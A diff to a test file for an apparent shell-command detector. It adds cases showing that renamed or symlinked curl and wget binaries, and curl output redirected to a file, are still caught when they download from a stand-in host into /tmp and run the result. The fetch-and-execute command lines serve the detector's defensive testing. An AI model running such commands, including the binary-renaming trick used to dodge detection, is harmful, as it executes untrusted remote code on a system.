@@ -79,10 +79,20 @@ describe('downloaders under another name', () => {
       'download-pipe-shell',
     );
     expect(
+      ids('sudo cp -f /usr/bin/curl /usr/bin/chttp; chttp http://x.invalid/p -o /tmp/p; chmod +x /tmp/p'),
+    ).toContain('download-execute');
+    expect(
       ids('ln -sf /usr/bin/wget ./w; ./w -O /tmp/p http://x.invalid/p; chmod +x /tmp/p; /tmp/p'),
     ).toContain('download-execute');
   });
   it('copying other programs changes nothing', () => {
     expect(ids('cp /usr/bin/node /tmp/n && /tmp/n build.js | tee log')).toEqual([]);
+  });
+});
+
+describe('downloads saved by redirection', () => {
+  it('curl URL > file, then running the file, is download-execute', () => {
+    expect(ids('curl -s http://x.invalid/p > /tmp/p; chmod +x /tmp/p; /tmp/p')).toContain('download-execute');
+    expect(ids('curl -s https://x.invalid/data.json > data.json')).not.toContain('download-execute');
   });
 });
